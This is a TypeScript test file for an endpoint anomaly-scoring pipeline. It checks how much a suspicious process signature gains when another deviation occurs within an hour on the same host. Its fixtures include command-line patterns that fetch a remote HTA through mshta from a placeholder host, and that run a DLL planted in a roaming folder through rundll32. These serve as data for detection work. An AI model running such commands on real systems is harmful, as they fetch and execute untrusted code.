import { describe, expect, test } from 'vitest'
import { subjectOf } from '@/lib/pipeline/baseline/signature'
import { EPISODE, gained } from './episode'
import { fact, hostDay } from './example-host-day'
import { exampleSignature } from './example-signature'
import { scoreHostDay } from './score-host-day'

const HOUR_US = 3_600_000_000
const PERSON = { user: 'standard user, medium' }
const MACHINE = { user: 'system, system' }

const page = exampleSignature({
  slug: 'mshta.exe',
  pattern: 'mshta http://a.example/b.hta',
  features: PERSON,
})
const library = exampleSignature({
  slug: 'rundll32.exe',
  pattern: 'rundll32 <roaming>\\b.dll,c',
  features: PERSON,
})
const deployed = exampleSignature({ ...page, pattern: 'mshta http://a.example/c.hta', features: MACHINE })

function dayScore(signature: typeof page, scoreMillibits: number, firstAtUs: number) {
  return { signature, subject: subjectOf(signature).key, score: { scoreMillibits }, firstAtUs }
}

function gain(signature: typeof page, other: typeof page, apartUs = 0, own = 5000, others = 8000) {
  const one = dayScore(signature, own, apartUs)
  return gained([one, dayScore(other, others, 0)]).get(one)
}

describe('what a deviation gains by another', () => {
  test('is a quarter of its score, up to two and a half bits, before it as after it', () => {
    expect(gain(library, page)).toBe(2000)
    expect(gain(library, page, HOUR_US)).toBe(2000)
    expect(gain(library, page, -HOUR_US)).toBe(2000)
    expect(gain(library, page, 0, 5000, 20_000)).toBe(2500)
  })

  test('is nothing from what began more than an hour away, scored little, or is the same pattern', () => {
    expect(gain(library, page, HOUR_US + 1)).toBeUndefined()
    expect(gain(library, page, 0, 5000, 5999)).toBeUndefined()
    expect(gain(exampleSignature({ ...page, traits: { child: ['cmd.exe @ system'] } }), page)).toBeUndefined()
  })

  test('is nothing from what ran with the rights of the machine, as deployment does, or under an account that nobody reported', () => {
    expect(gain(library, deployed)).toBeUndefined()
    expect(gain(library, exampleSignature({ ...page, features: { user: null } }))).toBeUndefined()
  })

  test('is nothing for what is no deviation by itself', () => {
    expect(gain(library, page, 0, 3999)).toBeUndefined()
  })

  test('is a reason of its own in either, whatever the order of the facts', () => {
    const hidden = exampleSignature({ ...page, facts: ['remote-url', 'address-host'] })
    const planted = exampleSignature({ ...library, facts: ['public-folder', 'odd-extension'] })
    const facts = [fact(hidden), fact(planted)]
    const day = hostDay([hidden, planted], { facts })
    const { rows } = scoreHostDay(day)
    expect(rows.every(({ reasons }) => reasons.some(({ code }) => code === EPISODE))).toBe(true)
    expect(scoreHostDay({ ...day, facts: facts.toReversed() }).rows).toEqual(rows)
    for (const { scoreMillibits, reasons } of rows)
      expect(reasons.reduce((sum, { millibits }) => sum + millibits, 0)).toBe(scoreMillibits)
  })
})
